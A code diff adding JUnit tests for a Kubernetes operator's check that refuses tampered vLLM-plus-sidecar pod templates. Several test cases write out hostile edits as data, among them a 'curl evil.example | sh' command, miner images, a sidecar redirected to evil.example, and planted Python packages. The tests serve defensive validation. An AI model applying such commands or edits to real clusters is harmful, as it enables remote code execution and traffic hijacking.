@@ -7,6 +7,7 @@ import dev.fledge.api.ModelRelease;
 import dev.fledge.api.spec.ModelReleaseSpec;
 import dev.fledge.api.spec.ModelSpec;
 import dev.fledge.api.spec.ServerSpec;
+import dev.fledge.api.spec.UpstreamSpec;
 import dev.fledge.api.status.ServingStatus;
 import io.fabric8.kubernetes.api.model.ContainerBuilder;
 import io.fabric8.kubernetes.api.model.EnvVar;
@@ -14,6 +15,7 @@ import io.fabric8.kubernetes.api.model.ExecAction;
 import io.fabric8.kubernetes.api.model.IntOrString;
 import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
 import io.fabric8.kubernetes.api.model.PodTemplateSpec;
+import io.fabric8.kubernetes.api.model.Quantity;
 import io.fabric8.kubernetes.api.model.Sysctl;
 import io.fabric8.kubernetes.api.model.VolumeBuilder;
 import io.fabric8.kubernetes.api.model.VolumeMount;
@@ -21,6 +23,7 @@ import io.fabric8.kubernetes.client.utils.Serialization;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import java.util.function.Consumer;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
@@ -452,6 +455,238 @@ class KeptTemplateCheckTest {
                 .filter(m -> m.getName().equals(ModelClaim.VOLUME))
                 .findFirst()
                 .orElseThrow();
+    }
+
+    /**
+     * Issue 17: a stable Deployment of another server ({@code spec.server.upstream}: vLLM behind the Fledge sidecar)
+     * is kept across an operator upgrade as one of the Fledge server is. Before, its two containers were refused, so an
+     * upgrade rebuilt stable and every pod of the model restarted, ungated, and reloaded its weights. Here as the API
+     * server stores it, its GPUs spelled otherwise, and with a lower download limit on the sidecar (an older operator).
+     */
+    @Test
+    void anUpstreamTemplateAnOperatorBuiltPassesAsTheApiServerStoresIt() {
+        ServingStatus rec = upstreamRecorded();
+        PodTemplateSpec stored = upstreamTemplate(rec);
+        stored.getSpec().setRestartPolicy("Always");
+        stored.getSpec().setDnsPolicy("ClusterFirst");
+        stored.getSpec().setSchedulerName("default-scheduler");
+        for (var c : stored.getSpec().getContainers()) {
+            c.setTerminationMessagePath("/dev/termination-log");
+            c.setTerminationMessagePolicy("File");
+            c.setImagePullPolicy("IfNotPresent");
+        }
+        upstream(stored).getResources().getLimits().put("nvidia.com/gpu", new Quantity("1000m"));
+        proxy(stored).getEnv().stream()
+                .filter(e -> e.getName().equals("FLEDGE_MODEL_MAX_DOWNLOAD_SIZE"))
+                .forEach(e -> e.setValue("1G"));
+
+        assertThat(upstreamRefusal(stored, rec)).isEmpty();
+    }
+
+    static Stream<Arguments> tamperedUpstream() {
+        return Stream.of(
+                edit("the server's image", t -> upstream(t).setImage("docker.io/evil/miner:1"), "image"),
+                edit("the sidecar's image", t -> proxy(t).setImage("docker.io/evil/proxy:1"), "image"),
+                edit(
+                        "the server's command",
+                        t -> upstream(t).setCommand(List.of("sh", "-c", "curl evil.example | sh")),
+                        "command: not as built"),
+                edit(
+                        "more GPUs",
+                        t -> upstream(t).getResources().getLimits().put("nvidia.com/gpu", new Quantity("8")),
+                        "resources: not as built"),
+                edit(
+                        "an operator variable on the server",
+                        t -> upstream(t).getEnv().add(new EnvVar("FLEDGE_MODEL_URI", "s3://evil/m", null)),
+                        "env: not as built"),
+                edit(
+                        "the tenant's variable at another value",
+                        t -> upstream(t).getEnv().stream()
+                                .filter(e -> e.getName().equals("HF_HUB_OFFLINE"))
+                                .forEach(e -> e.setValue("0")),
+                        "env: not as built"),
+                edit(
+                        "the tenant's variable dropped",
+                        t -> upstream(t).getEnv().removeIf(e -> e.getName().equals("HF_HUB_OFFLINE")),
+                        "env: not as built"),
+                edit(
+                        "another claim of weights",
+                        t -> t.getSpec().getVolumes().stream()
+                                .filter(v -> v.getName().equals("models"))
+                                .forEach(v -> v.getPersistentVolumeClaim().setClaimName("evil-weights")),
+                        "its volume models"),
+                edit(
+                        "the weights writable",
+                        t -> upstream(t).getVolumeMounts().stream()
+                                .filter(m -> m.getName().equals("models"))
+                                .forEach(m -> m.setReadOnly(false)),
+                        "volumeMounts: not as built"),
+                edit(
+                        "code planted below HOME",
+                        t -> {
+                            t.getSpec()
+                                    .getVolumes()
+                                    .add(new VolumeBuilder()
+                                            .withName("site")
+                                            .withNewConfigMap()
+                                            .withName("site-packages")
+                                            .endConfigMap()
+                                            .build());
+                            upstream(t)
+                                    .getVolumeMounts()
+                                    .add(new VolumeMount(
+                                            "/tmp/.local/lib/python3.12/site-packages",
+                                            null,
+                                            "site",
+                                            true,
+                                            null,
+                                            null,
+                                            null));
+                        },
+                        "volumeMounts: not as built"),
+                edit(
+                        "the key under another name on the server",
+                        t -> {
+                            t.getSpec()
+                                    .getVolumes()
+                                    .add(new VolumeBuilder()
+                                            .withName("k2")
+                                            .withNewSecret()
+                                            .withSecretName("assistant-feedback-key")
+                                            .endSecret()
+                                            .build());
+                            upstream(t)
+                                    .getVolumeMounts()
+                                    .add(new VolumeMount("/data/k", null, "k2", true, null, null, null));
+                        },
+                        "response-id key"),
+                edit(
+                        "a second port on the server",
+                        t -> upstream(t)
+                                .getPorts()
+                                .add(new io.fabric8.kubernetes.api.model.ContainerPort(
+                                        9999, null, null, "debug", "TCP")),
+                        "ports: not as built"),
+                edit(
+                        "a probe on the server",
+                        t -> upstream(t).setReadinessProbe(proxy(t).getReadinessProbe()),
+                        "readinessProbe: not one the operator sets"),
+                edit(
+                        "a privileged server",
+                        t -> upstream(t).getSecurityContext().setPrivileged(true),
+                        "model-server may gain privileges"),
+                edit(
+                        "the sidecar sent elsewhere",
+                        t -> proxy(t).getEnv().stream()
+                                .filter(e -> e.getName().equals("FLEDGE_UPSTREAM_URL"))
+                                .forEach(e -> e.setValue("http://evil.example")),
+                        "FLEDGE_UPSTREAM_URL is not the value"),
+                edit(
+                        "the sidecar without its upstream",
+                        t -> proxy(t).getEnv().removeIf(e -> e.getName().equals("FLEDGE_UPSTREAM_URL")),
+                        "FLEDGE_UPSTREAM_URL is missing"),
+                edit(
+                        "a tenant variable on the sidecar",
+                        t -> proxy(t).getEnv().add(new EnvVar("LOG_LEVEL", "debug", null)),
+                        "LOG_LEVEL is not one the operator sets on the sidecar"),
+                edit(
+                        "GPUs on the sidecar",
+                        t -> proxy(t).getResources().getLimits().put("nvidia.com/gpu", new Quantity("8")),
+                        "more than cpu and memory"),
+                edit(
+                        "the sidecar on the server's /tmp",
+                        t -> proxy(t).getVolumeMounts().stream()
+                                .filter(m -> m.getMountPath().equals("/tmp"))
+                                .forEach(m -> m.setName("fledge-tmp")),
+                        "its mounts"),
+                edit(
+                        "the sidecar without its public port",
+                        t -> {
+                            proxy(t).getPorts().removeIf(p -> p.getName().equals(ServerDefaults.PUBLIC_PORT));
+                            proxy(t).getEnv().removeIf(e -> e.getName().equals("FLEDGE_PUBLIC_PORT"));
+                            proxy(t).getReadinessProbe().getHttpGet().setPort(new IntOrString(ServerDefaults.PORT));
+                        },
+                        "FLEDGE_PUBLIC_PORT is missing"),
+                edit(
+                        "a third container",
+                        t -> t.getSpec()
+                                .getContainers()
+                                .add(new ContainerBuilder()
+                                        .withName("miner")
+                                        .withImage("docker.io/evil/miner:1")
+                                        .build()),
+                        "exactly two containers"),
+                edit("the sidecar renamed", t -> proxy(t).setName("sidecar"), "is not fledge-proxy"),
+                edit("the sidecar alone", t -> t.getSpec().getContainers().remove(0), "exactly two containers"));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("tamperedUpstream")
+    void anUpstreamTemplateNoOperatorBuiltIsRefusedWithTheReason(
+            String what, Consumer<PodTemplateSpec> change, String reason) {
+        ServingStatus rec = upstreamRecorded();
+        PodTemplateSpec t = upstreamTemplate(rec);
+        change.accept(t);
+
+        assertThat(upstreamRefusal(t, rec))
+                .hasValueSatisfying(why -> assertThat(why).contains(reason));
+    }
+
+    @Test
+    void aTemplateOfTheFledgeServerAloneIsNotKeptForAnUpstreamNorTheOtherWayRound() {
+        ServingStatus rec = upstreamRecorded();
+        PodTemplateSpec fledgeOnly = Serialization.clone(
+                OPERATOR.build(mr, Labels.TRACK_STABLE, recorded, 2).getSpec().getTemplate());
+        assertThat(upstreamRefusal(fledgeOnly, rec))
+                .hasValueSatisfying(why -> assertThat(why).contains("exactly two containers"));
+        assertThat(KeptTemplateCheck.refusal(
+                        upstreamTemplate(rec), recorded, OPERATOR.operatorEnvValues("assistant", recorded), HARDENING))
+                .hasValueSatisfying(why -> assertThat(why).contains("exactly one container"));
+        assertThat(KeptTemplateCheck.refusal(
+                        upstreamTemplate(rec), rec, OPERATOR.operatorEnvValues("assistant", rec), HARDENING))
+                .as("without what this operator builds to compare with")
+                .hasValueSatisfying(why -> assertThat(why).contains("as this operator builds them"));
+    }
+
+    private static Optional<String> upstreamRefusal(PodTemplateSpec t, ServingStatus rec) {
+        return KeptTemplateCheck.refusal(
+                t,
+                rec,
+                OPERATOR.operatorEnvValues("assistant", rec),
+                HARDENING,
+                OPERATOR.upstreamPod("assistant", rec));
+    }
+
+    private static ServingStatus upstreamRecorded() {
+        ModelRelease up = release();
+        up.getSpec().setServer(DesiredDeploymentTest.vllm(new UpstreamSpec()));
+        return new ServingConfig(DEFAULTS).of(up);
+    }
+
+    private static PodTemplateSpec upstreamTemplate(ServingStatus rec) {
+        ModelRelease up = release();
+        up.getSpec().setServer(DesiredDeploymentTest.vllm(new UpstreamSpec()));
+        PodTemplateSpec t = Serialization.clone(
+                OPERATOR.build(up, Labels.TRACK_STABLE, rec, 2).getSpec().getTemplate());
+        if (t.getMetadata().getAnnotations() == null) {
+            t.getMetadata().setAnnotations(new HashMap<>());
+        }
+        return t;
+    }
+
+    private static io.fabric8.kubernetes.api.model.Container named(PodTemplateSpec t, String name) {
+        return t.getSpec().getContainers().stream()
+                .filter(c -> name.equals(c.getName()))
+                .findFirst()
+                .orElseThrow();
+    }
+
+    private static io.fabric8.kubernetes.api.model.Container upstream(PodTemplateSpec t) {
+        return named(t, ServerDefaults.CONTAINER);
+    }
+
+    private static io.fabric8.kubernetes.api.model.Container proxy(PodTemplateSpec t) {
+        return named(t, ServerDefaults.PROXY_CONTAINER);
     }
 
     private static void setEnv(PodTemplateSpec t, String name, String value) {
